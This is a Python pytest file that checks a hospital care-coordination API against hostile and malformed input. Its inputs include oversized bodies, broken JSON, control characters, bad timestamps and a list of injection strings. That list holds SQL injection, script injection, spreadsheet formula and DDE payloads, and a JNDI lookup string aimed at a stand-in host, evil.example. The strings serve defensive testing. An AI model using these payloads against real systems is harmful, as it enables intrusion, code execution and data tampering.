"""Hostile and broken input: refused with a problem+json 4xx, or stored inert and echoed safely."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import httpx
import openpyxl  # type: ignore[import-untyped]
import psycopg
import pytest

from services.api.limits import MAX_BODY_BYTES, MAX_JSON_DEPTH
from tests.factories import Api, admin_headers, admission, event, patient, unique

pytestmark = pytest.mark.postgres
AT = "2025-06-02T10:00:00+09:00"
INJECTIONS = [
    "'; DROP TABLE events; --",
    "Robert'); DELETE FROM organizations WHERE ('1'='1",
    "<script>alert('x')</script>",
    '=HYPERLINK("http://evil.example","x")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "＝１＋１",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s%n",
    "\\\\evil.example\\share 🏥 ＼＄",
]


def assert_problem(response: httpx.Response, status: int | None = None) -> dict[str, Any]:
    """A 4xx with an RFC 9457 body that names no internals."""
    assert 400 <= response.status_code < 500, (response.status_code, response.text[:300])
    if status is not None:
        assert response.status_code == status, response.text[:300]
    assert response.headers["content-type"].startswith("application/problem+json")
    body: dict[str, Any] = response.json()
    assert {"type", "title", "status", "detail"} <= body.keys()
    assert body["status"] == response.status_code
    for internal in ("Traceback", "sqlalchemy", "asyncpg", "SELECT ", "INSERT "):
        assert internal not in response.text
    return body


async def _hospital_office(api: Api) -> tuple[str, str, dict[str, str]]:
    hospital = await api.org("hospital")
    office = await api.org("care_office")
    return hospital, office, await api.key(hospital, "hospital")


async def test_an_oversized_body_is_413_and_deep_json_is_400(api: Api) -> None:
    huge = b'{"events": ["' + b"x" * (MAX_BODY_BYTES + 1) + b'"]}'
    headers = {**admin_headers(), "content-type": "application/json"}
    for path in ("/v1/events", "/v1/events:batch", "/v1/organizations"):
        assert_problem(await api.client.post(path, content=huge, headers=headers), 413)
    deep = b"[" * (MAX_JSON_DEPTH + 1) + b"]" * (MAX_JSON_DEPTH + 1)
    nested = b'{"a":' * 1000 + b"1" + b"}" * 1000
    for path in ("/v1/events", "/v1/events:batch", "/v1/organizations"):
        for body in (deep, nested):
            assert_problem(await api.client.post(path, content=body, headers=headers), 400)


@pytest.mark.parametrize(
    "raw",
    [
        b'{"event_id": "\xff\xfe", "type": "admission"}',  # not UTF-8
        b"\xef\xbb\xbf{}",  # a BOM then JSON
        b'{"events": [',  # truncated
        b"",
        b"null",
        b'"just a string"',
        b"[1, 2, 3]",
        b'{"events": "not a list"}',
        b"NaN",
        b'{"event_id": 1e999999}',
    ],
)
async def test_broken_json_is_a_4xx_problem_on_every_write(api: Api, raw: bytes) -> None:
    headers = {**admin_headers(), "content-type": "application/json"}
    for path in ("/v1/events", "/v1/events:batch", "/v1/organizations", "/v1/api-keys"):
        assert_problem(await api.client.post(path, content=raw, headers=headers))
    r = await api.client.put(f"/v1/rule-sets/{api.region}", content=raw, headers=headers)
    assert_problem(r)


async def test_nul_and_control_characters_are_refused_in_bodies_and_queries(api: Api) -> None:
    hospital, office, headers = await _hospital_office(api)
    org = {"id": unique("H"), "kind": "hospital", "name": "病院\u0000", "region": api.region}
    assert_problem(await api.client.post("/v1/organizations", json=org, headers=admin_headers()))
    org = {**org, "name": "ok", "medical_area": "a\u0000"}
    assert_problem(await api.client.post("/v1/organizations", json=org, headers=admin_headers()))
    bad_events = [
        admission(hospital, "A\u0000B", AT, office),
        {**admission(hospital, "N-1", AT, office),
         "patient": {**patient(), "display_name": "山田\u0000太郎"}},
        event("scope_exclusion", hospital, "N-1", AT, reason="other", note="x\u0000y"),
        event("scope_exclusion", hospital, "N-1", AT, reason="other", note="x\u202ey"),
    ]  # fmt: skip
    for body in bad_events:
        assert_problem(await api.post(body, headers), 422)
    r = await api.client.post("/v1/events:batch", json={"events": bad_events}, headers=headers)
    assert r.status_code == 200, r.text
    assert [i["status"] for i in r.json()["results"]] == ["invalid"] * len(bad_events)
    for path, params in [
        ("/v1/episodes", {"hospital_id": hospital, "encounter_ref": "A\u0000B"}),
        ("/v1/episodes", {"hospital_id": "H\u0000", "encounter_ref": "x"}),
        ("/v1/organizations", {"cursor": "\u0000"}),
        ("/v1/flags", {"kind": "\u0000"}),
        ("/v1/handovers/pending", {"kind": "\u0000"}),
        ("/v1/metrics", {"month": "2025-06", "medical_area": "\u0000"}),
        ("/v1/metrics/series", {"month": "2025-06", "metric": "\u0000"}),
        ("/v1/audit", {"action": "\u0000"}),
    ]:
        assert_problem(await api.client.get(path, params=params, headers=admin_headers()))


@pytest.mark.parametrize(
    "occurred_at",
    [
        "2025-06-02T10:00:00",  # no offset
        "2025-06-02 10:00",
        "2025-06-02",
        "1717380000",
        "0001-01-01T00:00:00+09:00",
        "1999-12-31T23:59:59+09:00",
        "9999-12-31T23:59:59+09:00",
        "2025-06-02T10:00:00+25:00",
        "2025-02-30T10:00:00+09:00",
    ],
)
async def test_timestamps_without_offset_or_out_of_range_are_422(
    api: Api, occurred_at: str
) -> None:
    hospital, office, headers = await _hospital_office(api)
    body = assert_problem(await api.post(admission(hospital, "T-1", occurred_at, office), headers))
    assert body["status"] == 422


@pytest.mark.parametrize("day", ["0001-01-01", "1900-01-01", "2999-12-31", "9999-12-31"])
async def test_far_past_and_future_dates_never_break_the_fold_or_the_queries(
    api: Api, day: str
) -> None:
    hospital, office, headers = await _hospital_office(api)
    ref = unique("D-")
    first = await api.post(
        admission(hospital, ref, AT, office, planned_discharge_date=day), headers
    )
    second = await api.post(
        event("discharge_planned", hospital, ref, AT, planned_discharge_date=day), headers
    )
    for r in (first, second):
        assert r.status_code < 500, r.text
        if r.status_code >= 400:
            assert_problem(r, 422)
    for params in (
        {"from": day, "to": day},
        {"window": "30d", "as_of": day},
        {"month": day[:7]},
    ):
        r = await api.client.get("/v1/metrics", params=params, headers=admin_headers())
        assert r.status_code == 200 or assert_problem(r, 422)
        r = await api.client.get("/v1/metrics/series", headers=admin_headers(),
                                 params={**params, "metric": "discharge_miss_rate",
                                         "granularity": "day"})  # fmt: skip
        assert r.status_code == 200 or assert_problem(r, 422)
    r = await api.client.get("/v1/reports/survey", params={"month": day[:7]},
                             headers=admin_headers())  # fmt: skip
    assert r.status_code == 200 or assert_problem(r, 422)
    r = await api.client.put(f"/v1/rule-sets/{api.region}", json={"effective_from": day},
                             headers=admin_headers())  # fmt: skip
    assert r.status_code == 200 or assert_problem(r, 422)


async def test_injection_strings_are_stored_inert_and_echoed_exactly(
    api: Api, database_url: str
) -> None:
    office = await api.org("care_office")
    for n, text in enumerate(INJECTIONS):
        hospital = unique("H")
        org = {"id": hospital, "kind": "hospital", "name": text, "region": api.region,
               "medical_area": text}  # fmt: skip
        r = await api.client.post("/v1/organizations", json=org, headers=admin_headers())
        assert r.status_code == 201, r.text
        assert r.json()["name"] == text.strip()
        key = await api.key(hospital, "hospital")
        ref = text[:64]
        body = admission(hospital, ref, AT, office)
        body["patient"] = {**patient(), "display_name": text}
        r = await api.post(body, key)
        assert r.status_code == 201, r.text
        exclusion = event("scope_exclusion", hospital, ref, AT, reason="other", note=text)
        assert (await api.post(exclusion, key)).status_code == 201
        where = {"hospital_id": hospital, "encounter_ref": ref}
        r = await api.client.get("/v1/episodes", params=where, headers=key)
        assert r.status_code == 200, (n, r.text)
        assert r.headers["content-type"] == "application/json"
        episode = r.json()
        assert episode["encounter_ref"] == ref
        assert episode["patient"]["display_name"] == text
        assert [e["body"].get("note") for e in episode["events"]] == [None, text]
        assert json.loads(r.text)["encounter_ref"] == ref  # JSON-escaped, parsed back exactly
    with psycopg.connect(database_url) as conn:
        tables = {r[0] for r in conn.execute("SELECT tablename FROM pg_tables")}
    assert {"events", "organizations", "episodes"} <= tables

    params = {"month": "2025-06", "region": api.region}
    r = await api.client.get("/v1/reports/survey", params=params, headers=admin_headers())
    assert r.status_code == 200
    assert sorted(row["hospital_name"] for row in r.json()["rows"]) == sorted(
        t.strip() for t in INJECTIONS
    )
    r = await api.client.get(
        "/v1/reports/survey", params={**params, "format": "csv"}, headers=admin_headers()
    )
    names = [row[1] for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig")))][1:-1]
    r = await api.client.get(
        "/v1/reports/survey", params={**params, "format": "xlsx"}, headers=admin_headers()
    )
    sheet = openpyxl.load_workbook(io.BytesIO(r.content))["医療機関別"]
    # Under the title and header lines: 二次医療圏, 医療機関コード, 医療機関名 … (an area's 小計
    # and the 合計 have no 医療機関コード). Each hospital here is its own area, named as itself.
    lines = [row for row in sheet.iter_rows(min_row=3) if row[1].value is not None]
    cells = [row[2] for row in lines]
    assert sorted(str(c.value) for c in cells) == sorted(names)
    assert all(c.data_type == "s" for row in lines for c in row[:3]), "a name became a formula"
    formula_starts = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
    expected = sorted("'" + t if t.startswith(formula_starts) else t for t in INJECTIONS)
    assert sorted(names) == expected, "a formula was not neutralised"
